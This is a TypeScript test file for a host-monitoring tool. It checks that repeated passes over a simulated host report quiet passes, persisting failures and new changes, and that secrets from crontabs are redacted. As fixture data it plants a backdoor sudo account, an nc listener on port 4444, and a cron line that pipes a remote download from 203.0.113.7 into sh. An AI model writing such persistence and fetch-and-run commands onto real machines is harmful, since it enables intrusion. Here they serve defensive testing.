/**
 * Change detection and the quiet-pass guarantee through runPass (issue #4), on both store dialects: a simulated host
 * (a rootfs, the stub ss/systemctl of the scenario corpus) passed over several times.
 */
import { cpSync, mkdirSync, rmSync, writeFileSync, appendFileSync } from 'node:fs';
import { hostname } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { loadConfig } from '../../src/config/load.js';
import { createTransport } from '../../src/collect/create-transport.js';
import { runPass, type PassDeps } from '../../src/run-pass.js';
import { openTestStore, testDialects, type TestStore } from '../helpers/store.js';
import { tempDir } from '../helpers/cli.js';

const SCENARIOS = join(dirname(fileURLToPath(import.meta.url)), '../fixtures/scenarios');

function put(root: string, path: string, text: string): void {
  mkdirSync(dirname(join(root, path)), { recursive: true });
  writeFileSync(join(root, path), text);
}

describe.each(await testDialects())('change detection through runPass on %s', (dialect) => {
  let store: TestStore;
  let dir: string;
  const path = process.env.PATH;
  beforeAll(() => {
    process.env.PATH = `${join(SCENARIOS, '_stubs')}:${path ?? '/usr/bin:/bin'}`;
  });
  afterAll(() => {
    process.env.PATH = path;
  });
  afterEach(async () => {
    await store.cleanup();
    rmSync(dir, { recursive: true, force: true });
  });

  it('a quiet pass raises nothing new; a change is one new item; a persisting condition stays one open item until resolved', async () => {
    store = await openTestStore(dialect);
    dir = tempDir('dthm-changes-');
    const root = join(dir, 'root');
    cpSync(join(SCENARIOS, '_host'), root, { recursive: true });
    put(root, 'etc/group', 'root:x:0:\nsudo:x:27:\nalice:x:1000:\n');
    put(root, '.stub/ss', 'tcp   LISTEN 0      128    0.0.0.0:22    0.0.0.0:*    users:(("sshd",pid=612,fd=3))\n');
    put(root, '.stub/unit-files', 'ssh.service enabled enabled\n');
    put(root, '.stub/units', 'ssh.service loaded active running OpenBSD Secure Shell server\n');
    put(root, 'var/log/auth.log', '');
    put(root, 'etc/cron.d/backup', '0 3 * * * root /usr/local/bin/backup --password=hunter2\n');
    const config = join(dir, 'dthostmon.yaml');
    // /var/log/missing.log never exists: a persisting condition (collect.source_failed) every pass.
    writeFileSync(config, ['hosts:', '  - name: sim', '    transport: local', `    rootfs: ${JSON.stringify(root)}`, '    learning_passes: 0', '    logs: [/var/log/auth.log, /var/log/missing.log]', ''].join('\n'));
    const loaded = await loadConfig(config);
    let now = new Date('2026-11-26T10:00:00Z');
    const deps: PassDeps = { store, clock: () => now, createTransport, runner: hostname(), pid: process.pid, isPidAlive: () => false };
    const pass = async (at: string) => {
      now = new Date(at);
      const result = await runPass(loaded, deps);
      const host = result.hosts[0]!;
      expect(host.status).toBe('ok');
      // Resource bands follow this machine's df, not the rootfs: not the subject here.
      return { ...host, findings: host.findings.filter((f) => !f.ruleId.startsWith('resource.')) };
    };

    const first = await pass('2026-11-26T10:00:00Z');
    expect(first.changes).toEqual([]);
    expect(first.findings.map((f) => [f.key, f.since, f.passes])).toEqual([['collect.source_failed:/var/log/missing.log', '2026-11-26T10:00:00.000Z', 1]]);

    const quiet = await pass('2026-11-26T11:00:00Z');
    expect(quiet.changes).toEqual([]);
    // Nothing new: the one finding is the same open item, first seen at the first pass.
    expect(quiet.findings.map((f) => [f.key, f.since, f.passes])).toEqual([['collect.source_failed:/var/log/missing.log', '2026-11-26T10:00:00.000Z', 2]]);

    // mallory gets a login account and sudo; nc listens on 4444.
    appendFileSync(join(root, 'etc/passwd'), 'mallory:x:1001:1001::/home/mallory:/bin/bash\n');
    put(root, 'etc/group', 'root:x:0:\nsudo:x:27:mallory\nalice:x:1000:\n');
    appendFileSync(join(root, '.stub/ss'), 'tcp   LISTEN 0      5      0.0.0.0:4444    0.0.0.0:*    users:(("nc",pid=999,fd=3))\n');
    appendFileSync(join(root, 'etc/cron.d/backup'), '*/5 * * * * root curl -s -u mallory:S3cretPass https://203.0.113.7/x | sh\n');
    const changed = await pass('2026-11-26T12:00:00Z');
    expect(changed.changes?.map((c) => [c.kind, c.action, c.subject, c.expected, c.reason])).toEqual([
      ['user', 'added', 'mallory', false, null],
      ['group', 'changed', 'sudo +mallory', false, null],
      ['listener', 'added', 'tcp *:4444', false, null],
      ['cron', 'changed', '/etc/cron.d/backup', false, null],
      ['file', 'changed', '/etc/passwd', true, 'the account changes of this pass'],
      ['file', 'changed', '/etc/group', true, 'the group changes of this pass'],
    ]);
    const newOnes = changed.findings.filter((f) => f.since === '2026-11-26T12:00:00.000Z').map((f) => [f.category, f.subject, f.severity]);
    expect(newOnes).toEqual([
      ['account.group_changed', 'sudo +mallory', 'crit'],
      ['account.user_added', 'mallory', 'warn'],
      ['cron.changed', '/etc/cron.d/backup', 'warn'],
      ['network.listener_added', 'tcp *:4444', 'warn'],
    ]);

    // The next pass is quiet again: the changes were events of the last pass, now resolved.
    const after = await pass('2026-11-26T13:00:00Z');
    expect(after.changes).toEqual([]);
    expect(after.findings.map((f) => f.key)).toEqual(['collect.source_failed:/var/log/missing.log']);
    const state = await store.db.selectFrom('finding_state').select(['key', 'passes', 'resolved_at']).orderBy('key').execute();
    expect(state.map((r) => [r.key, Number(r.passes), r.resolved_at])).toEqual([
      ['account.group_changed:sudo +mallory', 1, '2026-11-26T13:00:00.000Z'],
      ['account.user_added:mallory', 1, '2026-11-26T13:00:00.000Z'],
      ['collect.source_failed:/var/log/missing.log', 4, null],
      ['cron.changed:/etc/cron.d/backup', 1, '2026-11-26T13:00:00.000Z'],
      ['network.listener_added:tcp *:4444', 1, '2026-11-26T13:00:00.000Z'],
    ]);
    const rows = await store.db.selectFrom('changes').select(['kind', 'subject', 'expected', 'reason']).orderBy('id').execute();
    expect(rows.map((r) => [r.kind, r.subject, Number(r.expected)])).toEqual([
      ['user', 'mallory', 0],
      ['group', 'sudo +mallory', 0],
      ['listener', 'tcp *:4444', 0],
      ['cron', '/etc/cron.d/backup', 0],
      ['file', '/etc/passwd', 1],
      ['file', '/etc/group', 1],
    ]);
    // The state baseline holds no secret-looking content and survives as JSON.
    const baseline = await store.db.selectFrom('baselines').select('data').where('kind', '=', 'state').executeTakeFirstOrThrow();
    expect(JSON.parse(baseline.data)).toMatchObject({ version: 1, groups: { sudo: { members: ['mallory'] } } });
    // No secret of a crontab reaches the store: not in the baseline, not in the change rows.
    const changeText = JSON.stringify(await store.db.selectFrom('changes').selectAll().execute());
    for (const text of [baseline.data, changeText]) {
      expect(text).not.toMatch(/hunter2|S3cretPass/);
    }
    expect(changeText).toContain('curl -s -u mallory:********');
  });
});
